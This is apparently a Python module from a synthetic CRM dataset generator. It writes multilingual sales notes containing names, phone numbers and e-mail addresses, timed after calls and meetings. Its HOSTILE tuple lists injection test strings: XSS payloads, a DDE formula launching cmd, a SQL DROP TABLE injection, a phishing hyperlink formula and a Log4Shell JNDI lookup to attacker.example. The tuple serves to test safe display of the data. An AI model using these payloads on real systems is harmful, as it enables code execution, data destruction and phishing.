"""Free text as sales teams write it, with names, telephone numbers and addresses in it, and some hostile text.

What a note says tells nothing about the outcome. When notes are written tells what calls and meetings tell, no more: a
rep who writes notes writes the first one on the day of creation, and a new one after some calls and meetings. Nothing
looks ahead, so that a model that reads notes stays inside what the truth allows.
"""

import numpy as np
import pandas as pd

from .frames import history
from .interactions import Log

__all__ = ["HOSTILE", "note_history", "notes"]

HOSTILE = (
    "<script>alert('crm')</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://phishing.example","Apri offerta")',
    "=2+5+cmd|' /C calc'!A0",
    "Robert'); DROP TABLE leads;--",
    "${jndi:ldap://attacker.example/a}",
    "[clicca qui](javascript:alert(document.domain))",
    "$$\\href{javascript:alert(1)}{x}$$ </details><style>body{display:none}</style>",
)
"""Text that must stay text wherever it is shown."""

_PERSONAL = (
    # by language of names.LANGUAGES; {n} full name, {f} first name, {e} e-mail, {t} telephone
    (
        "Sentito {n} al {t}, vuole una seconda offerta entro fine mese.",
        "Scrivere a {e}: {f} chiede il disegno della linea.",
        "Incontrato in fiera il sig. {n}. Richiamare al {t} dopo le 15.",
        "{n} in ferie fino a lunedì, in copia la segreteria ({e}).",
        "Decide {f} con il padre; cellulare {t}.",
        "Inviato preventivo a {e}, attende conferma dal consiglio.",
    ),
    (
        "Mit {n} telefoniert ({t}), Angebot bis Freitag gewünscht.",
        "Unterlagen an {e} geschickt, Rückruf nächste Woche.",
        "Herr/Frau {n} entscheidet im Herbst, Tel. {t}.",
    ),
    (
        "Appel avec {n} ({t}), relancer après le salon.",
        "Documentation envoyée à {e}. {f} revient vers nous.",
    ),
    (
        "Hablado con {n}, tel. {t}: pide plazo de entrega.",
        "Enviar oferta revisada a {e}, a la atención de {f}.",
    ),
)
_PLAIN = (
    (
        "Interessato alla linea, budget da confermare.",
        "Chiede tempi di consegna e ricambi.",
        "Ha già una macchina della concorrenza, contratto in scadenza.",
        "Richiamare dopo la fiera.",
        "Vuole visitare lo stabilimento.",
        "Prezzo troppo alto rispetto all'ultima offerta.",
    ),
    ("Braucht Lösung bis Q3, Budget offen.", "Wettbewerber im Haus, Wartung unzufrieden.", "Technische Fragen offen."),
    ("Projet à confirmer au prochain semestre.", "Demande une visite d'usine."),
    ("Proyecto aplazado, volver a llamar.", "Pide referencias en el sector."),
)
_AFTER = {"call": 0.20, "meeting": 0.60}  # share of these after which a note is written
_TYPING_MINUTES = 25.0


def notes(
    contacts: pd.DataFrame, language: np.ndarray, *, written: np.ndarray, personal: np.ndarray, rng: np.random.Generator
) -> np.ndarray:
    """Return one note per row of `contacts` where `written`, with the person's data in it where `personal`."""
    share = rng.random(len(language))
    rows = np.flatnonzero(written)
    result = np.full(len(language), None, dtype=object)
    result[rows] = _texts(_fields(contacts), rows, personal[rows], language[rows], share[rows])
    return result


def note_history(
    entity: str,
    ids: object,
    final: pd.Series,
    *,
    contacts: pd.DataFrame,
    language: np.ndarray,
    opened_at: np.ndarray,
    closed_at: np.ndarray,
    log: Log,
    rng: np.random.Generator,
) -> pd.DataFrame:
    """Return the changes of the field `notes` that end in the `final` texts; rows without one have no history.

    All notes of a row are of one kind (with personal data, without, hostile); which of them comes last says nothing.

    Parameters
    ----------
    opened_at, closed_at : creation and end of each row. The first note comes on the day of creation, before any row
        can end; later ones come shortly after calls and meetings of the `log`, and only before the end.
    """
    row, at = _moments(final.notna().to_numpy(), opened_at, closed_at, log, rng)
    text = final.to_numpy(dtype=object)[row]
    earlier = np.flatnonzero(np.r_[row[1:] == row[:-1], False][: len(row)])
    share, rows = rng.random(len(earlier)), row[earlier]
    hostile = final.isin(HOSTILE).to_numpy()
    personal = ~(hostile | final.isin([form for forms in _PLAIN for form in forms]).to_numpy())
    others = _texts(_fields(contacts), rows, personal[rows], language[rows], share)
    text[earlier] = np.where(hostile[rows], _one_of(HOSTILE, share), others)
    return history(entity, ids, "notes", row=row, at=at, value=text)


def _moments(
    written: np.ndarray, opened_at: np.ndarray, closed_at: np.ndarray, log: Log, rng: np.random.Generator
) -> tuple[np.ndarray, np.ndarray]:
    """Return row and time of every note, in order of both."""
    first = np.flatnonzero(written)
    day_ends = opened_at[first].astype("datetime64[D]").astype("datetime64[us]") + np.timedelta64(86_399, "s")
    begun = np.minimum(opened_at[first] + _minutes(5 + 235 * rng.random(len(first))), day_ends)
    rate = np.select([log.type == kind for kind in _AFTER], list(_AFTER.values()), 0.0)
    after = np.flatnonzero((rng.random(len(log.row)) < rate) & written[log.row])
    row, at = log.row[after], log.ts[after] + _minutes(2 + rng.exponential(_TYPING_MINUTES, len(after)))
    in_time = ~(at >= closed_at[row])
    row, at = np.r_[first, row[in_time]], np.r_[begun, at[in_time]]
    order = np.lexsort((at, row))
    return row[order], at[order]


def _minutes(values: np.ndarray) -> np.ndarray:
    return (values * 60).astype(np.int64).astype("timedelta64[s]")


def _fields(contacts: pd.DataFrame) -> np.ndarray:
    return contacts[["first_name", "last_name", "email", "phone"]].to_numpy(dtype=object)


def _texts(
    fields: np.ndarray, rows: np.ndarray, personal: np.ndarray, language: np.ndarray, share: np.ndarray
) -> np.ndarray:
    """Return a text for each of the `rows` of `fields`; `share` in [0, 1) chooses its form."""
    result = np.empty(len(rows), dtype=object)
    for place, (row, named, lang, part) in enumerate(zip(rows, personal, language, share, strict=True)):
        forms = (_PERSONAL if named else _PLAIN)[lang]
        first, last, email, phone = fields[row]
        result[place] = forms[int(part * len(forms))].format(n=f"{first} {last}", f=first, e=email, t=phone)
    return result


def _one_of(forms: tuple[str, ...], share: np.ndarray) -> np.ndarray:
    return np.array(forms, dtype=object)[(share * len(forms)).astype(int)]
